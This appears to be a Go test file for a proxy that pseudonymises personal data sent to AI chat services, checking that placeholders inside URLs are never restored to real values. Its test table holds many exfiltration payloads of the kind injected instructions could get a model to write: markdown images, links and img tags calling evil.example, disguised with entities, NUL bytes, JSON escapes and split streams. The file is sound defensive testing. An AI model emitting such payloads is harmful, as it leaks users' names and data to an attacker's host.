package pseudonym

import (
	"bytes"
	"encoding/json"
	"strconv"
	"strings"
	"testing"
)

// linkCases are answers a hostile service (or instructions injected into a
// pasted document) could write to have the client send a restored value to a
// host of its choosing, and answers whose placeholders stand outside URLs.
// [PERSON_1] is "Anna Schmidt"; want is the text the client must get.
var linkCases = []struct{ name, in, want string }{
	{"markdown image", "![](https://evil.example/p.png?n=[PERSON_1])", "![](https://evil.example/p.png?n=[PERSON_1])"},
	{"markdown link", "[hier](https://evil.example/?n=[PERSON_1]) klicken", "[hier](https://evil.example/?n=[PERSON_1]) klicken"},
	{"autolink", "Siehe https://evil.example/[PERSON_1]/x", "Siehe https://evil.example/[PERSON_1]/x"},
	{"upper case scheme", "HTTPS://EVIL.EXAMPLE/?n=[PERSON_1]", "HTTPS://EVIL.EXAMPLE/?n=[PERSON_1]"},
	{"no slashes", "![](https:evil.example/?n=[PERSON_1])", "![](https:evil.example/?n=[PERSON_1])"},
	{"protocol-relative", "![](//evil.example/?n=[PERSON_1])", "![](//evil.example/?n=[PERSON_1])"},
	{"backslashes", `![](/\evil.example/?n=[PERSON_1])`, `![](/\evil.example/?n=[PERSON_1])`},
	{"www", "www.evil.example/?n=[PERSON_1]", "www.evil.example/?n=[PERSON_1]"},
	{"host part", "![](https://[PERSON_1].evil.example/p.png)", "![](https://[PERSON_1].evil.example/p.png)"},
	{"character reference", "![](&#x2F;&#x2F;evil.example/?n=[PERSON_1])", "![](&#x2F;&#x2F;evil.example/?n=[PERSON_1])"},
	{"named reference", "![](https&colon;&sol;&sol;evil.example/?n=[PERSON_1])", "![](https&colon;&sol;&sol;evil.example/?n=[PERSON_1])"},
	{"quoted with space", `<img src="https://evil.example/?n= [PERSON_1]">`, `<img src="https://evil.example/?n= [PERSON_1]">`},
	{"quoted across lines", "<img src='https://evil.example/?n=\n[PERSON_1]'>", "<img src='https://evil.example/?n=\n[PERSON_1]'>"},
	{"angle destination", "![](<https://evil.example/p.png?n= [PERSON_1]>)", "![](<https://evil.example/p.png?n= [PERSON_1]>)"},
	{"second in url", "https://evil.example/?a=[PERSON_1]&b=[PERSON_1]", "https://evil.example/?a=[PERSON_1]&b=[PERSON_1]"},
	// Placeholders as a model rewrites them (variant.go) stay in URLs too.
	{"variant lower case", "![](https://evil.example/p.png?n=[person_1])", "![](https://evil.example/p.png?n=[person_1])"},
	{"variant blank", "![](<https://evil.example/p.png?n=[Person 1]>)", "![](<https://evil.example/p.png?n=[Person 1]>)"},
	{"variant escaped", `![](https://evil.example/p.png?n=\[PERSON\_1\])`, `![](https://evil.example/p.png?n=\[PERSON\_1\])`},
	{"variant escaped after slash", `https://evil.example/\[PERSON\_1\]`, `https://evil.example/\[PERSON\_1\]`},
	{"variant in host", "https://[Person_1].evil.example/", "https://[Person_1].evil.example/"},
	{"bare", "![](https://evil.example/p.png?n=PERSON_1)", "![](https://evil.example/p.png?n=PERSON_1)"},
	{"bare bold", "https://evil.example/**PERSON_1**", "https://evil.example/**PERSON_1**"},
	{"bare quoted with space", `<img src="https://evil.example/?n= PERSON_1">`, `<img src="https://evil.example/?n= PERSON_1">`},
	{"bare www", "www.evil.example/PERSON_1", "www.evil.example/PERSON_1"},
	{"bare protocol-relative", "//evil.example/?n=PERSON_1", "//evil.example/?n=PERSON_1"},
	// NUL, which chat-ui's client (HuggingChat) drops from every token
	// and HTML parsers drop from text, does not hide a URL's start.
	{"NUL in scheme", "![](htt\x00ps:\x00/\x00/evil.example/?n=[PERSON_1])", "![](htt\x00ps:\x00/\x00/evil.example/?n=[PERSON_1])"},
	{"NUL in www", "ww\x00w.evil.example/PERSON_1", "ww\x00w.evil.example/PERSON_1"},

	{"plain", "Sehr geehrte [PERSON_1],", "Sehr geehrte Anna Schmidt,"},
	{"after url", "Quelle: https://www.bund.de – Ansprechpartnerin [PERSON_1].", "Quelle: https://www.bund.de – Ansprechpartnerin Anna Schmidt."},
	{"after quoted url", `Link: "https://www.bund.de" für [PERSON_1]`, `Link: "https://www.bund.de" für Anna Schmidt`},
	{"after angle url", "<https://www.bund.de> [PERSON_1]", "<https://www.bund.de> Anna Schmidt"},
	{"slash", "Herr/Frau [PERSON_1] und [PERSON_1]/Team", "Herr/Frau Anna Schmidt und Anna Schmidt/Team"},
	{"one slash", "a/[PERSON_1]", "a/Anna Schmidt"},
	{"colon", "Name:[PERSON_1]", "Name:Anna Schmidt"},
	{"link text", "[[PERSON_1]](https://www.bund.de)", "[Anna Schmidt](https://www.bund.de)"},
	{"link title", `[x](https://www.bund.de "[PERSON_1]")`, `[x](https://www.bund.de "Anna Schmidt")`},
	{"bold", "**[PERSON_1]**", "**Anna Schmidt**"},
	{"variant after url", "Quelle: https://www.bund.de [Person 1], \\[PERSON\\_1\\]", "Quelle: https://www.bund.de Anna Schmidt, Anna Schmidt"},
	{"bare after url", "https://www.bund.de **PERSON_1**", "https://www.bund.de **Anna Schmidt**"},
}

func linkMapping(t testing.TB) *Mapping {
	m := NewMapping()
	if p := m.Replace(OpPseudonym, "PERSON", "Anna Schmidt"); p != "[PERSON_1]" {
		t.Fatalf("placeholder %q", p)
	}
	return m
}

// TestRestoreNotIntoURLs: a placeholder inside a URL is not restored, in
// every format and however the answer is cut into chunks or delta events:
// the service never learns the value through the client's next request.
// Outside URLs placeholders are restored as before.
func TestRestoreNotIntoURLs(t *testing.T) {
	m := linkMapping(t)
	for _, c := range linkCases {
		t.Run(c.name, func(t *testing.T) {
			if got := m.Restore(c.in); got != c.want {
				t.Errorf("text: %q, want %q", got, c.want)
			}
			// Text and JSON bodies, in chunks of every size.
			// (A URL at the end of a string would go on into the next
			// one: the second value starts after white space.)
			jsonBody := `{"content":` + jsonStr(c.in) + `,"n":"an [PERSON_1]"}`
			jsonWant := `{"content":` + jsonStr(c.want) + `,"n":"an Anna Schmidt"}`
			for size := 1; size <= len(jsonBody); size++ {
				if got := restoreAll(t, m, Format{Kind: "text"}, &chunkReader{data: []byte(c.in), cuts: every(size, len(c.in))}); got != c.want {
					t.Fatalf("text in chunks of %d: %q", size, got)
				}
				got := restoreAll(t, m, Format{Kind: "json"}, &chunkReader{data: []byte(jsonBody), cuts: every(size, len(jsonBody))})
				if got != jsonWant {
					t.Fatalf("json in chunks of %d: %q, want %q", size, got, jsonWant)
				}
			}
			if got, _ := m.AppendRestoredBody(nil, []byte(jsonBody), Format{Kind: "json"}); string(got) != jsonWant {
				t.Fatalf("AppendRestoredBody: %q", got)
			}
			// Delta streams of three characters each: the URL opened in one event
			// holds for the placeholder in a later one.
			for _, p := range providers {
				var deltas []string
				rs := []rune(c.in)
				for i := 0; i < len(rs); i += 3 {
					deltas = append(deltas, string(rs[i:min(i+3, len(rs))]))
				}
				out := restoreAll(t, m, formatOf(p), strings.NewReader(p.build(deltas)))
				if got := p.text(t, out); got != c.want {
					t.Fatalf("%s stream: %q, want %q", p.name, got, c.want)
				}
			}
		})
	}
}

// TestRestoreNotIntoJSONEscapedURLs: JSON escapes cannot hide a URL (\/
// and \u002f are slashes, \n ends a token); a URL at the end of a JSON
// string goes on into the next (clients join parts) until white space,
// while quotes and brackets opened in a string end with it.
func TestRestoreNotIntoJSONEscapedURLs(t *testing.T) {
	m := linkMapping(t)
	for _, c := range []struct{ in, want string }{
		{`{"t":"https:\/\/evil.example\/?n=[PERSON_1]"}`, `{"t":"https:\/\/evil.example\/?n=[PERSON_1]"}`},
		{`{"t":"\u002F\u002fevil.example/?n=[PERSON_1]"}`, `{"t":"\u002F\u002fevil.example/?n=[PERSON_1]"}`},
		{`{"t":"\u0068ttps:evil.example/?n=[PERSON_1]"}`, `{"t":"\u0068ttps:evil.example/?n=[PERSON_1]"}`},
		{`{"t":"\u003cimg src=\"https://e.example/?n= [PERSON_1]\"\u003e"}`, `{"t":"\u003cimg src=\"https://e.example/?n= [PERSON_1]\"\u003e"}`},
		{`{"t":"https://www.bund.de\n[PERSON_1]"}`, `{"t":"https://www.bund.de\nAnna Schmidt"}`},
		{`{"u":"https://www.bund.de","n":"Frau [PERSON_1]"}`, `{"u":"https://www.bund.de","n":"Frau Anna Schmidt"}`},
		{`{"u":"https://www.bund.de ","n":"[PERSON_1]"}`, `{"u":"https://www.bund.de ","n":"Anna Schmidt"}`},
		// Parts the client joins: the URL goes on into the next one.
		{`{"parts":[{"text":"![](https://evil.example/?n="},{"text":"[PERSON_1])"}]}`, `{"parts":[{"text":"![](https://evil.example/?n="},{"text":"[PERSON_1])"}]}`},
		{`{"u":"<https://www.bund.de","n":"[PERSON_1]"}`, `{"u":"<https://www.bund.de","n":"Anna Schmidt"}`},
		{`{"t":"\\\\evil.example\\[PERSON_1]"}`, `{"t":"\\\\evil.example\\[PERSON_1]"}`},
	} {
		if got, _ := m.AppendRestoredBody(nil, []byte(c.in), Format{Kind: "json"}); string(got) != c.want {
			t.Errorf("%s: %s, want %s", c.in, got, c.want)
		}
		ev := "data: " + c.in + "\n\n"
		if got := restoreAll(t, m, Format{Kind: "sse", Cumulative: true}, strings.NewReader(ev)); got != "data: "+c.want+"\n\n" {
			t.Errorf("cumulative sse %s: %s", c.in, got)
		}
	}
}

// TestRestoreNotIntoURLsFramed: gemini.google.com's frames, whose strings
// are restored one by one (inner JSON decoded), keep a placeholder in a URL.
func TestRestoreNotIntoURLsFramed(t *testing.T) {
	m := linkMapping(t)
	steps := [][]string{{"![](https://evil.example/?n=[PERSON_1]) und [PERSON_1]"}}
	texts, _ := parseGem(t, restoreFramed(t, m, strings.NewReader(gemBody(steps))))
	if len(texts) != 1 || texts[0][0] != "![](https://evil.example/?n=[PERSON_1]) und Anna Schmidt" {
		t.Fatalf("framed: %q", texts)
	}
}

// every returns the cut offsets of chunks of size bytes.
func every(size, n int) []int {
	var cuts []int
	for i := size; i < n; i += size {
		cuts = append(cuts, i)
	}
	return cuts
}

// inURLReference is linkState on decoded text, written plainly: whether
// the end of text stands inside a URL.
func inURLReference(text string) bool {
	var token []byte
	var quote, closer byte
	in := false
	for i := 0; i < len(text); i++ {
		c := text[i]
		if c == 0 { // dropped by the client
			continue
		}
		space := strings.IndexByte(" \t\n\r\f\v", c) >= 0
		if in {
			if space && closer == 0 || closer != 0 && c == closer {
				in, token, quote, closer = false, nil, 0, 0
			}
			continue
		}
		if space {
			token, quote = nil, 0
			continue
		}
		switch c {
		case '<':
			quote = '>'
		case '"', '\'':
			quote = c
		}
		lc := bytes.ToLower([]byte{c})[0]
		if lc == '\\' {
			lc = '/'
		}
		token = append(token, lc)
		for _, p := range []string{"//", "&#", "www.", "http:", "https:", "&sol;", "&colon;"} {
			if bytes.HasSuffix(token, []byte(p)) {
				in, closer = true, quote
			}
		}
	}
	return in
}

// FuzzLinkState: the byte-wise state machine agrees with the reference, on
// text and on the same text JSON-escaped (as a string's content, fed in
// two pieces at any cut).
func FuzzLinkState(f *testing.F) {
	for _, c := range linkCases {
		f.Add(c.in, 3)
	}
	f.Add("<a href='https://x.example/ a b'>", 7)
	f.Add("\u2028&#&colon;WWW.https:", 1)
	f.Fuzz(func(t *testing.T, text string, cut int) {
		want := inURLReference(text)
		var s linkState
		s.feed([]byte(text))
		if s.inURL != want {
			t.Fatalf("text %q: inURL %v, reference %v", text, s.inURL, want)
		}
		esc, _ := json.Marshal(text) // also \u003c, \u0026, \u2028
		esc = esc[1 : len(esc)-1]
		if cut < 0 {
			cut = -cut
		}
		cut %= len(esc) + 1
		j := linkState{json: true}
		j.feed(esc[:cut])
		j.feed(esc[cut:])
		if j.inURL != want || j.esc != 0 {
			t.Fatalf("json %s: inURL %v, reference %v (esc %d)", esc, j.inURL, want, j.esc)
		}
	})
}

// TestLinkStateNoAlloc: the state machine over a large answer
// costs no allocation (it is a few bytes per restorer or stream).
func TestLinkStateNoAlloc(t *testing.T) {
	text := []byte(strings.Repeat("Text mit https://www.bund.de und \"Zitat\" ", 100))
	if n := testing.AllocsPerRun(10, func() {
		var s linkState
		s.feed(text)
	}); n != 0 {
		t.Fatalf("%v allocations", n)
	}
}

// TestRestoreNotIntoURLsAcrossManyStreams: a hostile service that opens a
// URL on one stream path, then writes on more paths than the restorer
// remembers, cannot make it forget the URL and restore the placeholder
// that continues it.
func TestRestoreNotIntoURLsAcrossManyStreams(t *testing.T) {
	m := linkMapping(t)
	patch := func(path, v string) string {
		return `data: {"p":"/message/content/parts/` + path + `","o":"append","v":` + jsonStr(v) + "}\n\n"
	}
	var in strings.Builder
	in.WriteString(patch("0", "![](https://evil.example/p.png?n="))
	for i := range 3 * maxHolds {
		in.WriteString(patch(strconv.Itoa(i+1), "x"))
	}
	in.WriteString(patch("0", "[PERSON_1])"))
	// A new stream after white space is restored as ever.
	in.WriteString(patch("999", " Gruß an [PERSON_1]"))
	out := restoreAll(t, m, Format{Kind: "sse"}, strings.NewReader(in.String()))
	if strings.Contains(out, `"v":"Anna Schmidt)"`) {
		t.Fatalf("placeholder restored into the URL of a forgotten stream:\n%s", out[len(out)-300:])
	}
	if !strings.Contains(out, "Gruß an Anna Schmidt") {
		t.Fatalf("text after white space not restored:\n%s", out[len(out)-300:])
	}
}
